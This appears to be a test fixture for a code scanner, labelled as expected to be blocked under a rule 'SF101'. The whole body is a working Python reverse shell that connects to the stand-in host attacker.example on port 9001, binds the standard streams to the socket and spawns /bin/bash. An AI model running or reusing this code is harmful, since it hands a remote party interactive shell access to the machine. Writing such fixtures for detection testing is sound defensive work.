# expect: blocked SF101 socket + pty.spawn
import os
import pty
import socket

HOST, PORT = "attacker.example", 9001

with socket.create_connection((HOST, PORT)) as conn:
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    pty.spawn("/bin/bash")
